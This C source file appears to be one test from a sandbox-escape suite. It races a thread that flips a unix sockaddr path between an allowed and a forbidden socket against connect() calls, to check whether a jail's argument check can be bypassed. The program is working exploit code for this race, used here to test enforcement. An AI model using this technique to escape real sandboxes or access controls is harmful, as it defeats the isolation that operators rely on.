/* e0102-toctou-connect-unix - argument TOCTOU on connect(): a thread flips
 * the sockaddr between an allowed and a forbidden unix socket.
 *
 * Attack: the program listens on an allowed socket of its own; one thread
 * flips the sun_path of a sockaddr between that socket and a forbidden one
 * (a listener outside the jail that counts connections) while another
 * thread connects to whatever the sockaddr names.
 * Source: Watson 2007 (sockaddr races on connect in system call wrappers).
 * Usage: e0102-toctou-connect-unix ALLOWED-SOCKET FORBIDDEN-SOCKET */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

static struct sockaddr_un sa;
static const char *allowed, *forbidden;
static volatile int stop;
static int lfd;

static void *flipper(void *arg)
{
	(void)arg;
	size_t la = strlen(allowed) + 1, lf = strlen(forbidden) + 1;
	while (!stop) {
		memcpy(sa.sun_path, forbidden, lf);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
		memcpy(sa.sun_path, allowed, la);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
	}
	return NULL;
}

static void *acceptor(void *arg)
{
	(void)arg;
	while (!stop) {
		int c = accept(lfd, NULL, NULL);
		if (c >= 0)
			close(c);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0102-toctou-connect-unix ALLOWED-SOCKET FORBIDDEN-SOCKET");
	allowed = argv[1];
	forbidden = argv[2];
	socklen_t len = esc_unix_addr(&sa, allowed);
	lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, len) < 0 || listen(lfd, 512) < 0)
		esc_die("listen on the allowed socket");
	pthread_t tf, ta;
	if (pthread_create(&ta, NULL, acceptor, NULL) != 0 ||
	    pthread_create(&tf, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long connected = 0, refused = 0;
	int last = 0;
	bool reached = false;
	esc_race_init(&r);
	while (!reached && esc_race_go(&r)) {
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		if (s < 0)
			esc_die("socket");
		if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
			struct sockaddr_un peer;
			socklen_t pl = sizeof peer;
			connected++;
			memset(&peer, 0, sizeof peer);
			if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
			    strcmp(peer.sun_path, forbidden) == 0)
				reached = true;
		} else {
			refused++;
			last = errno;
		}
		close(s);
	}
	printf("connect race: %ld tries, %ld connected, %ld refused%s%s; peer was the forbidden socket: %s\n",
	       r.tries, connected, refused, refused ? ", last " : "",
	       refused ? esc_errno_name(last) : "", reached ? "yes" : "no");
	stop = 1;
	shutdown(lfd, SHUT_RDWR);
	pthread_join(tf, NULL);
	pthread_join(ta, NULL);
	return 0;
}
